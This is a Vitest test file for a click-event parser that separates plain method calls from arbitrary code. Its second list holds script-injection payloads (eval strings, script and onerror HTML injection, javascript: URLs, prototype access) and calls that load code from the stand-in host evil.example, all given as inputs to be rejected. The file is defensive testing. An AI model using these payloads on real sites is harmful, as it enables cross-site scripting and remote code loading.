import { describe, expect, test } from 'vitest';
import { parseClickEvent } from './clickEvent.ts';

describe('what is a plain call', () => {
  test.each([
    ['fnName', ['fnName'], []],
    ['fnName()', ['fnName'], []],
    ["javascript:a.b('x')", ['a', 'b'], ['x']],
    ['a.b("x", 1)', ['a', 'b'], ['x', 1]],
    ["javascript:window.openShopTour('contact');", ['openShopTour'], ['contact']],
    ['Tidio.open(true, null, -1.5, false)', ['Tidio', 'open'], [true, null, -1.5, false]],
    ["a.b('it is, fine')", ['a', 'b'], ['it is, fine']],
    ['jQuery.fancybox.open("#tour")', ['jQuery', 'fancybox', 'open'], ['#tour']],
  ])('%s', (setting, path, args) => expect(parseClickEvent(setting)).toEqual({ kind: 'call', path, args }));

  test.each([
    'a;b',
    'if(x){y()}',
    'window.__pwn=1;x',
    "a('x',)",
    'a(b)',
    "a('x' + 'y')",
    "a()('x')",
    'a.b(function(){})',
    'a.__proto__.b()',
    'a.constructor("x")',
    'x.prototype.y',
    '(function(){})()',
    'a`x`',
    `x${'y'.repeat(10_000)}`,
    "eval('window.__pwn=1')",
    "window.eval('window.__pwn=1')",
    "self.window.setTimeout('window.__pwn=1')",
    "setInterval('window.__pwn=1', 1)",
    "Function('window.__pwn=1')",
    "a.b.eval('x')",
    "document.write('<script>window.__pwn=1</script>')",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.__pwn=1>')",
    "location.assign('javascript:window.__pwn=1')",
    "top.location.replace('javascript:window.__pwn=1')",
    "open('javascript:window.__pwn=1')",
    "window.open('https://evil.example')",
    "fetch('https://evil.example')",
    "frames.eval('x')",
    "$('<img src=x onerror=window.__pwn=1>')",
    "jQuery.globalEval('window.__pwn=1')",
    "$.getScript('https://evil.example/x.js')",
    "Reflect.apply('x')",
    "a.call('x')",
  ])('%.40s is code', (setting) => expect(parseClickEvent(setting).kind).toBe('code'));
});
